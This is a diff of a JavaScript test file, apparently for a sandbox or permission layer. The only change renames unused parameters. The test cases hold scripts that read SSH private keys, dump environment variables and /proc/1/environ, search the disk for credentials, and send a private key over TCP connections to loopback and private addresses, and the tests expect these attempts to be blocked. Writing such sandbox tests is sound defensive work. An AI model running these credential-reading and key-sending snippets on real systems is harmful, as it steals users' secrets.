@@ -105,14 +105,14 @@ for (const file of [HOME + '/.ssh/id_rsa', os.homedir() + '/.ssh/id_rsa', 'homel
 attempt('environment', () => JSON.stringify(process.env))
 attempt('pid 1 environment', () => fs.readFileSync('/proc/1/environ', 'utf8'))
 attempt('search the disk', () => cp.execSync('find / -xdev \\\\( -name id_rsa -o -name credentials \\\\) 2>/dev/null; grep -rs OPENSSH / --include=id_rsa 2>/dev/null; true').toString())`,
-    also: (f, output) => {
+    also: (_f, output) => {
       expect(output).toMatch(/blocked: read .*\.ssh\/id_rsa ENOENT/)
       expect(output).toContain('done: environment')
     },
   },
   {
     name: 'opening a TCP connection to a loopback listener (no grant)',
-    script: (f) => `
+    script: (_f) => `
 for (const host of ['127.0.0.1', '::1', 'localhost', '10.255.255.1']) {
   const socket = net.connect({port: host === '10.255.255.1' ? 80 : PORT, host, timeout: 2000})
   socket.on('connect', () => { socket.end(fs.readFileSync(HOME + '/.ssh/id_rsa', 'utf8')); console.log('connected', host) })
